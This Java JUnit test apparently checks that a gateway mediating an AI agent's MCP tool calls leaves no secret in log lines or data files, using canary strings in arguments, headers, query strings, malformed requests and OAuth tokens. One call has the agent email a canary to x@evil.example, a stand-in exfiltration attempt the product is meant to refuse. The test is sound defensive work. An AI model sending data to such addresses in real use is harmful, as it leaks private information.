package dev.writ.attacks;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.writ.http.client.Call;
import dev.writ.http.client.Url;
import dev.writ.walks.ConnectedStage;
import dev.writ.walks.McpClient;
import dev.writ.walks.Product;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Queue;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.logging.Handler;
import java.util.logging.Level;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Attack 47: whatever secret passes through, in whichever place, is found afterwards in no file and in no log line. */
class SecretCanaryTest {
    private static final String ARGUMENT = "canary-argument-7f3a";
    private static final String HELD = "canary-held-9b1c";
    private static final String REFUSED = "canary-refused-2d4e";
    private static final String MISFIT = "canary-misfit-5a6b";
    private static final String QUERY = "canary-query-8c7d";
    private static final String HEADER = "canary-header-1e2f";
    private static final String MALFORMED = "canary-malformed-3c3c";
    private static final String CREDENTIAL = "shop-secret";

    private final Queue<String> logged = new ConcurrentLinkedQueue<>();
    private final Handler listener = new Handler() {
        @Override
        public void publish(LogRecord record) {
            var text = new StringBuilder(record.getLoggerName() + " " + record.getMessage());
            if (record.getParameters() != null)
                for (var each : record.getParameters()) text.append(' ').append(each);
            for (var thrown = record.getThrown(); thrown != null; thrown = thrown.getCause())
                text.append(' ').append(thrown);
            logged.add(text.toString());
        }

        @Override
        public void flush() {}

        @Override
        public void close() {}
    };

    @TempDir
    private Path data;

    @BeforeEach
    void listen() {
        Logger.getLogger("").addHandler(listener);
        Logger.getLogger("dev.writ").setLevel(Level.ALL);
        listener.setLevel(Level.ALL);
    }

    @AfterEach
    void listenNoMore() {
        Logger.getLogger("").removeHandler(listener);
        Logger.getLogger("dev.writ").setLevel(null);
    }

    @Test
    void noSecretStaysBehind() {
        var canaries = new ArrayList<>(List.of(ARGUMENT, HELD, REFUSED, MISFIT, QUERY, HEADER, MALFORMED, CREDENTIAL));
        try (var product = Product.start(data)) {
            var key = product.key(Product.BOT, product.open(Product.TaskSpec.SUPPORT));
            canaries.add(key);
            try (var client = product.client(key, Product.SHOP)) {
                client.call("get_order", "{\"order\":\"" + ARGUMENT + "\"}");
                var held = client.call("create_refund", refund(HELD, 900));
                product.approveAs(product.dana, approval(held));
                client.call("create_refund", refund(HELD, 900));
                client.call("send_email", "{\"to\":\"x@evil.example\",\"subject\":\"s\",\"body\":\"" + REFUSED + "\"}");
                client.call("get_order", "{\"order\":[\"" + MISFIT + "\"]}");
                client.post("{\"jsonrpc\":\"2.0\",\"id\":9,\"method\":\"" + MALFORMED + "\"");
                var queried = Url.parse(product.wiring.url() + "/mcp/shop?token=" + QUERY);
                client.send(Call.post(queried, "application/json", "{}".getBytes(UTF_8))
                        .header("accept", "application/json")
                        .header("x-api-key", HEADER));
            }
            assertThat(product.calls())
                    .as("the read and the approved refund went out")
                    .isEqualTo(2);
        }
        System.getLogger("dev.writ.guard").log(System.Logger.Level.DEBUG, "heard");
        assertThat(logged).as("the log was listened to").anySatisfy(line -> assertThat(line)
                .contains("heard"));
        for (var canary : canaries)
            assertThat(logged).noneSatisfy(line -> assertThat(line).contains(canary));
        assertThat(filesWith(canaries)).isEmpty();
    }

    @Test
    void noSecretOfAServerThatPeopleConnectStaysBehind() {
        var canaries = new ArrayList<>(List.of("canary-client-secret", "canary-code", "canary-personal-secret"));
        try (var stage = ConnectedStage.start(data)) {
            var key = stage.agentKey();
            var person = stage.personKey(stage.product.erin);
            canaries.addAll(List.of(key, person));
            var back = stage.agreed(person, "erin");
            canaries.add(Url.parse(back).target().replaceFirst(".*state=([^&]*).*", "$1"));
            assertThat(stage.get(back, Optional.of(person)).status()).isEqualTo(200);
            stage.product
                    .parts()
                    .vault()
                    .wallet()
                    .keep(
                            dev.writ.guard.Credentials.ownSecret(
                                    Product.TENANT,
                                    stage.product.erin.text(),
                                    ConnectedStage.ORDERS,
                                    new dev.writ.base.Name("mine")),
                            dev.writ.base.Json.object()
                                    .put("secret", "canary-personal-secret")
                                    .build(),
                            java.time.Instant.now());
            try (var client = stage.product.client(key, ConnectedStage.ORDERS)) {
                client.call("get_order", "{\"order\":\"1001\"}");
                stage.peer.expireAll();
                client.call("get_order", "{\"order\":\"1001\"}");
                stage.peer.forgetAll();
                client.call("get_order", "{\"order\":\"1001\"}");
            }
            assertThat(stage.peer.given()).as("tokens were had and renewed").hasSize(4);
            canaries.addAll(stage.peer.given());
        }
        for (var canary : canaries)
            assertThat(logged).noneSatisfy(line -> assertThat(line).contains(canary));
        assertThat(filesWith(canaries)).isEmpty();
    }

    private static String refund(String order, int amount) {
        return "{\"order\":\"" + order + "\",\"amount\":" + amount + ",\"currency\":\"EUR\"}";
    }

    private static String approval(dev.writ.base.Json.Obj held) {
        return held.object("result")
                .flatMap(result -> result.object("_meta"))
                .flatMap(meta -> meta.object("dev.writ/decision"))
                .flatMap(decision -> decision.string("approval"))
                .orElseThrow(() -> new AssertionError(McpClient.text(held)));
    }

    private Map<String, List<String>> filesWith(List<String> canaries) {
        var found = new TreeMap<String, List<String>>();
        try (var files = Files.walk(data)) {
            for (var file : files.filter(Files::isRegularFile).toList()) {
                var text = new String(Files.readAllBytes(file), ISO_8859_1);
                var inside = canaries.stream().filter(text::contains).toList();
                if (!inside.isEmpty()) found.put(data.relativize(file).toString(), inside);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return found;
    }
}
